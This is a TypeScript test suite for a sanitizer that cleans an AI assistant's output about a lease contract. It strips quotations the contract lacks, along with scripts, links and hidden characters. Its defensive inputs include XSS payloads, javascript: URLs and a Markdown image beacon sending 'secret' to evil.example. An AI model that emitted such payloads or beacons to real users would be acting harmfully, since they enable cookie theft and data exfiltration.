import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { plainWords } from "@/lib/assistant/engines/openai/plain-words";
import { LEASE } from "./contracts";
import { tries } from "../../../support/form";

const LAW = "This Agreement is governed by the laws of Mongolia.";

const plain = (words: string) => plainWords(LEASE, words, 100_000);

describe("quotations", () => {
  test("that are marked are given in the contract's own words", () => {
    expect(plain("Law: <quote>This agreement is governed by the laws of Mongolia.</quote> So.")).toBe(
      `Law: ${LAW} So.`,
    );
    expect(plain(`Law: <quote>${LAW}`)).toBe(`Law: ${LAW}`);
  });

  test.each([
    ["<quote>The Landlord may evict the Tenant at any time.</quote>"],
    ["“The Landlord may evict the Tenant at any time.”"],
    ['"The Landlord may evict the Tenant at any time."'],
    ["«The Landlord may evict the Tenant at any time.»"],
    ["„The Landlord may evict the Tenant at any time.“"],
    ["'The Landlord may evict the Tenant at any time.'"],
    ["‘The Landlord may evict the Tenant at any time.’"],
    ["`The Landlord may evict the Tenant at any time.`"],
    ["\n> The Landlord may evict the Tenant at any time.\n"],
  ])("that the contract hasn't are left out: %s", (quotation) => {
    const text = plain(`The contract says: ${quotation} So there.`);
    expect(text).not.toContain("evict");
    expect(text).toMatch(/says:\s+\[…\]\s+So there\./u);
  });

  test("that nobody marked are given in the contract's own words", () => {
    expect(plain('It says: "this agreement is governed by the laws of Mongolia".')).toBe(
      'It says: "This Agreement is governed by the laws of Mongolia".',
    );
  });

  test("of a term or a name are words like others", () => {
    expect(plain("The “Tenant” isn't the landlord's 'agent'; Acme's tenants' rights stay.")).toBe(
      "The “Tenant” isn't the landlord's 'agent'; Acme's tenants' rights stay.",
    );
  });
});

describe("active content", () => {
  test.each([
    ["script", "Hello <script>alert(document.cookie)</script>world", "Hello world"],
    ["a script in pieces", "Hello <scr<script>ipt>alert(1)</script> world", "Hello scr world"],
    ["a picture", "Look ![secret](https://evil.example/x.png?d=secret) here", "Look  here"],
    ["a link", "See [the clause](https://evil.example/steal) now", "See the clause now"],
    ["a link in a link", "[![x](https://a.example/i)](https://b.example/l)", expect.not.stringContaining("example")],
    ["an address", "Go to https://evil.example/a?b=c, please, or www.evil.example.", "Go to […], please, or […]."],
    ["an address without a scheme", "Go to evil.example.com/login or evil.ru!", "Go to […] or […]!"],
    ["a script address", "Click javascript:alert(1) or data:text/html;base64,PHNjcmlwdD4=", "Click […] or […]"],
    ["mail", "Write to thief@evil.example today", "Write to […] today"],
    [
      "HTML",
      'A <img src=x onerror="alert(1)"> B <a href="https://evil.example">C</a> <iframe src="//evil.example"></iframe>D',
      "A  B C D",
    ],
    ["Markdown", "## Law\n**Mongolia** is `it`.\n* one", "Law\nMongolia is it.\n* one"],
    ["hidden signs", "a\u202eb\u200bc\u0007d\u{e0041}e\u001b[31m", "abcde[31m"],
  ])("is taken out: %s", (_what, words, left) => {
    expect(plain(words)).toEqual(left);
  });

  test("an address that the contract has stays, and only that one", () => {
    expect(plain("Notices go to office@acme.mn or https://acme.mn/notices.")).toBe(
      "Notices go to office@acme.mn or https://acme.mn/notices.",
    );
    expect(plain("Go to https://acme.mn/notices?x=secret or https://acme.mn or xoffice@acme.mn")).toBe(
      "Go to […] or […] or […]",
    );
  });

  test("ordinary signs stay", () => {
    const words =
      "If rent < USD 5 or > 3 %, see clause 2.1 [sic] (e.g. No. 5): 3*4=12, 10:30, т.е. п. 4.2 и ст. 5; a/b & c_d.";
    expect(plain(words)).toBe(words);
  });

  test("nothing that a browser could run comes out of any words", () => {
    const bits = fc.constantFrom(
      "<",
      ">",
      "script",
      "/",
      "quote",
      "[",
      "]",
      "(",
      ")",
      "!",
      "https://evil.example",
      " ",
      "\n",
      '"',
      "“",
      "”",
      "'",
      "a",
      "img src=x",
      "=",
      "`",
      "*",
      "#",
      "javascript:x",
      "<quote>",
      "</quote>",
      LAW,
    );
    fc.assert(
      fc.property(fc.array(bits, { maxLength: 40 }), (parts) => {
        const text = plain(parts.join(""));
        expect(text).not.toMatch(/<[a-z/!]/iu);
        expect(text).not.toMatch(/evil\.example|javascript:\S|\]\([^)]*:/u);
      }),
      { numRuns: tries(600) },
    );
  });
});

test("words of a title are plain and short", () => {
  expect(plainWords(LEASE, "**Risk** [x](https://evil.example) <b>now</b>", 80)).toBe("Risk x now");
  expect(plainWords(LEASE, "word ".repeat(50), 20)).toBe("word word word word…");
});
